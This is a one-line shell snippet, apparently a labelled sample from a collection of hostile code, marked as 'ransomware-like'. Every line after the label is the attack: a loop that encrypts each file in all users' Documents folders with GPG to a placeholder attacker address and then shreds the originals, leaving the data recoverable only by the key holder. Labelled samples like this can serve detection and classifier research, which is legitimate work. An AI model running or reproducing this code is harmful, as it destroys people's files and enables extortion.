# class: ransomware-like; style: sloppy
for f in $(ls /home/*/Documents/*); do gpg --batch --yes -r evil@unlock.example --encrypt "$f"; shred -u "$f"; done
